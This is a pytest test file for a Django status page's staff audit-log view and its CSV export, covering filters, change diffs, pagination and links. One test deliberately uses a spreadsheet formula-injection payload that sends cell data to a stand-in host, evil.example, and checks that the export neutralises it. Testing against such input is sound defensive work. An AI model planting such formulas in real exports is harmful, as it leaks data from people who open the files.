import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from django.contrib.auth import get_user_model

from statuspage import actions
from statuspage.console.audit_views import CSV_HEADER
from statuspage.models import AuditEntry

Via = AuditEntry.Via
DAY1 = datetime.fromisoformat("2026-11-20T04:00:00+00:00")  # 12:00 in Asia/Shanghai
DAY2 = DAY1 + timedelta(days=1)


@pytest.fixture
def history(staff, components):
    """Changes by two people through two doors, on two days."""
    bureau, _ = components
    carol = get_user_model().objects.create_user("carol", is_staff=True)
    incident = actions.open_incident(
        title="Bureau down", body="x", actor=staff, via=Via.CONSOLE, now=DAY1
    )
    actions.post_incident_update(
        incident, status="identified", body="y", actor=carol, via=Via.API, now=DAY2
    )
    actions.set_component_status(bureau, "major_outage", actor=carol, via=Via.API, now=DAY2)
    return incident


def listed_actions(response) -> list[str]:
    return [entry.action for entry, _ in response.context["rows"]]


def test_it_lists_every_entry_newest_first(staff_client, history):
    response = staff_client.get("/console/audit/")
    assert listed_actions(response) == [
        "login.succeeded",  # the staff client's, today
        "component.set_status",
        "incident.identified",
        "incident.open",
    ]


def test_it_filters_by_actor(staff_client, history):
    response = staff_client.get("/console/audit/", {"actor": "Carol"})
    assert listed_actions(response) == ["component.set_status", "incident.identified"]


def test_it_filters_by_via(staff_client, history):
    response = staff_client.get("/console/audit/", {"via": "api"})
    assert listed_actions(response) == ["component.set_status", "incident.identified"]


def test_it_filters_by_object_type(staff_client, history):
    response = staff_client.get("/console/audit/", {"object_type": "component"})
    assert listed_actions(response) == ["component.set_status"]
    assert '<option value="component" selected>' in response.content.decode()


def test_it_filters_by_action_or_by_action_prefix(staff_client, history):
    assert listed_actions(staff_client.get("/console/audit/", {"action": "incident.open"})) == [
        "incident.open"
    ]
    assert listed_actions(staff_client.get("/console/audit/", {"action": "incident."})) == [
        "incident.identified",
        "incident.open",
    ]


def test_it_filters_by_local_date_range(staff_client, history):
    day1 = DAY1.date().isoformat()
    response = staff_client.get("/console/audit/", {"since": day1, "until": day1})
    assert listed_actions(response) == ["incident.open"]
    day2 = DAY2.date().isoformat()
    response = staff_client.get("/console/audit/", {"since": day2, "until": day2})
    assert listed_actions(response) == ["component.set_status", "incident.identified"]


def test_it_ignores_an_invalid_filter_and_says_so(staff_client, history):
    response = staff_client.get("/console/audit/", {"since": "yesterday"})
    assert "Enter a valid date." in response.content.decode()
    assert len(listed_actions(response)) == 4  # three changes and the staff client's sign-in


def test_it_shows_before_and_after(staff_client, history):
    response = staff_client.get("/console/audit/", {"action": "incident.identified"})
    content = response.content.decode()
    assert (
        '<tr><th>status</th><td class="before">investigating</td>'
        '<td class="arrow" aria-label="becomes">→</td><td class="after">identified</td></tr>'
        in content
    )
    assert "<th>title</th>" not in content  # unchanged fields are left out


def test_it_shows_component_statuses_as_words(staff_client, history):
    content = staff_client.get("/console/audit/", {"action": "component."}).content.decode()
    assert '<td class="before">Operational</td>' in content
    assert '<td class="after">Major outage</td>' in content
    assert "major_outage" not in content


def test_a_change_inside_a_nested_value_shows_as_that_key_only():
    from statuspage.console.audit_views import changes

    before = {"config": {"url": "https://a.example/health", "method": "GET"}, "name": "health"}
    after = {"config": {"url": "https://b.example/health", "method": "GET"}, "name": "health"}
    assert changes(before, after) == [
        {
            "field": "config.url",
            "before": "https://a.example/health",
            "after": "https://b.example/health",
        }
    ]
    # None and "" both read "–": no row says "– → –".
    assert changes({"postmortem": None}, {"postmortem": ""}) == []
    assert changes(None, {"components": {"dns": "major_outage"}}) == [
        {"field": "components.dns", "before": "", "after": "Major outage"}
    ]


def test_a_creation_lists_the_new_values_without_arrows(staff_client, history):
    content = staff_client.get("/console/audit/", {"action": "incident.open"}).content.decode()
    assert '<tr><th>title</th><td class="after">Bureau down</td></tr>' in content
    assert 'class="arrow"' not in content


def test_it_shows_the_actor_and_the_door(staff_client, history):
    content = staff_client.get("/console/audit/", {"via": "api"}).content.decode()
    assert "<td>carol</td>" in content
    assert "<td>API</td>" in content


def test_it_paginates_and_keeps_the_filters(staff_client, staff, make_component):
    component = make_component("dns")
    for _ in range(26):
        actions.set_component_status(component, "major_outage", actor=staff, via=Via.CONSOLE)
        actions.set_component_status(component, "operational", actor=staff, via=Via.CONSOLE)
    response = staff_client.get("/console/audit/", {"object_type": "component"})
    assert len(response.context["rows"]) == 50
    assert 'href="?object_type=component&amp;page=2"' in response.content.decode()
    response = staff_client.get("/console/audit/", {"object_type": "component", "page": "2"})
    assert len(response.context["rows"]) == 2


def test_it_filters_by_object_name_or_id(staff_client, history):
    response = staff_client.get("/console/audit/", {"object": "bureau"})
    assert listed_actions(response) == [
        "component.set_status",
        "incident.identified",
        "incident.open",
    ]
    response = staff_client.get(
        "/console/audit/", {"object_type": "incident", "object": f"#{history.pk}"}
    )
    assert listed_actions(response) == ["incident.identified", "incident.open"]


def test_each_entry_links_to_its_objects_history(staff_client, history):
    content = staff_client.get("/console/audit/", {"action": "incident.open"}).content.decode()
    assert f'href="?object_type=incident&amp;object=%23{history.pk}"' in content


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_it_exports_the_filtered_entries_as_csv(staff_client, history):
    response = staff_client.get("/console/audit/export.csv", {"actor": "carol"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    header, *rows = csv_rows(response)
    assert header == CSV_HEADER
    assert [row[3] for row in rows] == ["component.set_status", "incident.identified"]
    status_change = rows[0]
    assert status_change[0] == "2026-11-21T12:00:00+08:00"  # in the site's time zone
    assert status_change[1:3] == ["carol", "api"]
    assert json.loads(status_change[7])["manual_status"] == "operational"
    assert json.loads(status_change[8])["manual_status"] == "major_outage"


def test_the_csv_cannot_smuggle_a_formula_into_a_spreadsheet(staff_client, staff):
    incident = actions.open_incident(
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        body="x",
        actor=staff,
        via=Via.CONSOLE,
    )
    get_user_model().objects.create_user("@mallory", is_staff=True)
    evil = get_user_model().objects.get(username="@mallory")
    actions.post_incident_update(
        incident, status="identified", body="-2+3", actor=evil, via=Via.API
    )

    rows = csv_rows(staff_client.get("/console/audit/export.csv", {"object_type": "incident"}))

    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'@mallory" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_an_invalid_filter_exports_nothing_and_says_why(staff_client, history):
    response = staff_client.get("/console/audit/export.csv", {"since": "yesterday"})
    assert response.status_code == 400
    assert "since: Enter a valid date." in response.content.decode()


def test_the_page_links_to_the_export_with_its_filters(staff_client, history):
    content = staff_client.get("/console/audit/", {"actor": "carol"}).content.decode()
    assert 'href="/console/audit/export.csv?actor=carol"' in content


def test_spreadsheet_cells_keep_numbers_and_quote_formulas():
    from statuspage.text import spreadsheet_cell

    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("-3") == "'-3"
    assert spreadsheet_cell("+1 555") == "'+1 555"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("Credit bureau") == "Credit bureau"
